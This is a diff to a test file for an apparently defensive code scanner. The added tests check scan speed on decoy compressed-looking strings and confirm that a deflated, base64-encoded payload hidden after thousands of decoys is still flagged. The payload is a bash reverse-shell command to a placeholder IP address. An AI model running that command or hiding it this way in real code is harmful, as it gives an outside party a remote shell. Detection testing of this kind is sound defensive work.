@@ -1,3 +1,4 @@
+import { deflateSync } from 'node:zlib';
 import { describeRuleCases, expectScansQuickly, findingsOf, js, py, sh } from './rule-cases.helper.js';
 import { dartDecodedShell } from '../analyzers/dart-flow.js';
 import type { Segment } from '../rule.types.js';
@@ -604,6 +605,21 @@ describe('adversarial decoding helpers', () => {
   ];
   it.each(cases)('should scan 1 MiB of %s in under a second', (_name, text) => {
     expectScansQuickly([text], 'scripts/x.py');
+  });
+});
+
+describe('runs that only start like a compressed stream', () => {
+  const MiB = 1024 * 1024;
+  const decoy = "  p = 'eJxLTEpWSM/PT8lMz0xN'\n";
+  const payload = deflateSync(Buffer.from('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n')).toString('base64');
+
+  it('should scan 1 MiB of them in under a second', () => {
+    expectScansQuickly([decoy.repeat(MiB / decoy.length), "'H4sIAAAAAAAA' ".repeat(MiB / 15)], 'tools/x.ps1');
+  });
+
+  it('should still decode a compressed payload placed after thousands of short decoys', () => {
+    const ids = findingsOf(decoy.repeat(3000) + `  q = '${payload}'\n`, 'scripts/a.py').map((f) => f.rule_id);
+    expect(ids).toContain('SG-RSHELL-001');
   });
 });
 
